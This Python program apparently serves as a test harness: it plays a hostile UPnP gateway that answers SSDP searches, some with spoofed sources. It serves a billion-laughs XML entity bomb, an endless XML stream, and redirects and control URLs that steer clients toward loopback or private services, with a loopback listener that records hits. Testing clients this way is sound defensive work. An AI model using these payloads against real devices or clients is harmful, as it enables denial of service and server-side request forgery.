"""A home gateway that wishes ill, as a program: it answers the search for UPnP devices, and what is asked of it then.

Standard output tells everybody who is asked, a line a request: the address and the path.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import socket
import struct
from typing import Any, Final

SSDP: Final = ("239.255.255.250", 1900)
PORT: Final = 5000
"""Of its HTTP server, on each of its addresses."""
DEVICE: Final = "urn:schemas-upnp-org:device:InternetGatewayDevice:1"
ROOT: Final = """<?xml version="1.0"?>{doctype}<root xmlns="urn:schemas-upnp-org:device-1-0"><specVersion>
<major>1</major><minor>0</minor></specVersion><device><deviceType>urn:schemas-upnp-org:device:InternetGatewayDevice:1</deviceType>
<friendlyName>{name}</friendlyName><manufacturer>x</manufacturer><modelName>x</modelName><UDN>uuid:1</UDN><serviceList>
<service><serviceType>urn:schemas-upnp-org:service:WANIPConnection:1</serviceType><serviceId>urn:upnp-org:serviceId:x
</serviceId><SCPDURL>/scpd.xml</SCPDURL><controlURL>{control}</controlURL><eventSubURL>/e</eventSubURL></service>
</serviceList></device></root>"""
SCPD: Final = """<?xml version="1.0"?><scpd xmlns="urn:schemas-upnp-org:service-1-0"><specVersion><major>1</major>
<minor>0</minor></specVersion><actionList><action><name>GetExternalIPAddress</name><argumentList><argument>
<name>NewExternalIPAddress</name><direction>out</direction><relatedStateVariable>ExternalIPAddress</relatedStateVariable>
</argument></argumentList></action></actionList><serviceStateTable><stateVariable sendEvents="no">
<name>ExternalIPAddress</name><dataType>string</dataType></stateVariable></serviceStateTable></scpd>"""
LAUGHS: Final = "<!DOCTYPE x [" + "".join(
    f'<!ENTITY e{number} "{f"&e{number - 1};" * 10 if number else "ha"}">' for number in range(9)
)
KINDS: Final = ("foreign", "control-loopback", "control-other", "control-redirect", "redirect", "endless", "entities")


class Gateway:
    """What it does, by its kind."""

    def __init__(self, kind: str, own: str, other: str, victim: str) -> None:
        """`own` is the gateway's address, `other` another one of the network, `victim` a URL of who is to be asked."""
        self._kind = kind
        self._own = own
        self._other = other
        self._victim = victim

    def sources(self) -> list[tuple[str, str]]:
        """Return source address and LOCATION of each answer to a search."""
        at_own, at_other = (f"http://{host}:{PORT}/root.xml" for host in (self._own, self._other))
        if self._kind == "foreign":
            return [(self._other, at_other), (self._other, at_own), (self._own, at_other)]
        return [(self._own, at_own)]

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """Answer one request."""
        with contextlib.suppress(ConnectionError, asyncio.IncompleteReadError):
            head = await reader.readuntil(b"\r\n\r\n")
            path = head.split(b" ")[1].decode()
            print(writer.get_extra_info("sockname")[0], path, flush=True)
            await self._answer(path, writer)
        writer.close()

    async def _answer(self, path: str, writer: asyncio.StreamWriter) -> None:
        control = {"control-loopback": self._victim, "control-other": f"http://{self._other}:{PORT}/private"}
        match self._kind:
            case "redirect":
                _respond(writer, "", "302 Found", f"Location: http://{self._other}:{PORT}/private\r\n")
            case "control-redirect" if path == "/control":
                _respond(writer, "", "307 Temporary Redirect", f"Location: {self._victim}\r\n")
            case "endless":
                writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: text/xml\r\n\r\n<root>")
                while True:
                    writer.write(b"<x>" * (1 << 16))
                    await writer.drain()
            case "entities":
                _respond(writer, ROOT.format(doctype=f"{LAUGHS}]>", name="&e8;", control="/control"))
            case kind if path == "/root.xml":
                _respond(writer, ROOT.format(doctype="", name="x", control=control.get(kind, "/control")))
            case _:
                _respond(writer, SCPD)
        await writer.drain()


def _respond(writer: asyncio.StreamWriter, body: str, status: str = "200 OK", more: str = "") -> None:
    head = f"HTTP/1.1 {status}\r\nContent-Type: text/xml\r\nContent-Length: {len(body)}\r\n{more}\r\n"
    writer.write(f"{head}{body}".encode())


class _Search(asyncio.DatagramProtocol):
    """Answers M-SEARCH from whatever address the kind wants."""

    def __init__(self, gateway: Gateway) -> None:
        self._gateway = gateway

    def datagram_received(self, data: bytes, addr: tuple[str | Any, int]) -> None:
        if not data.startswith(b"M-SEARCH"):
            return
        for source, location in self._gateway.sources():
            lines = ["HTTP/1.1 200 OK", "CACHE-CONTROL: max-age=120", f"ST: {DEVICE}", f"LOCATION: {location}"]
            text = "\r\n".join([*lines, "EXT:", "SERVER: x", f"USN: uuid:1::{DEVICE}", "", ""])
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                sock.bind((source, SSDP[1]))
                sock.sendto(text.encode(), addr)


async def _run(gateway: Gateway, own: str) -> None:
    loop = asyncio.get_running_loop()
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind(SSDP)
    sock.setsockopt(
        socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, struct.pack("4s4s", *map(socket.inet_aton, (SSDP[0], own)))
    )
    await loop.create_datagram_endpoint(lambda: _Search(gateway), sock=sock)
    async with await asyncio.start_server(gateway.serve, "0.0.0.0", PORT):
        print("ready", flush=True)
        await loop.create_future()


async def _watch(port: int) -> None:
    """Be a service of loopback that nobody of the network shall reach, and tell who asks."""

    def asked(_reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        print("asked", flush=True)
        writer.close()

    async with await asyncio.start_server(asked, "127.0.0.1", port):
        print("ready", flush=True)
        await asyncio.get_running_loop().create_future()


def main() -> None:
    """Be a gateway, or with `watch` the service of loopback that one sends its clients to."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("kind", choices=(*KINDS, "watch"))
    parser.add_argument("--own", default="127.0.0.1")
    parser.add_argument("--other", default="127.0.0.1")
    parser.add_argument("--victim", default="http://127.0.0.1:7777/private")
    parser.add_argument("--port", type=int, default=7777)
    given = parser.parse_args()
    if given.kind == "watch":
        asyncio.run(_watch(given.port))
    else:
        asyncio.run(_run(Gateway(given.kind, given.own, given.other, given.victim), given.own))


if __name__ == "__main__":
    main()
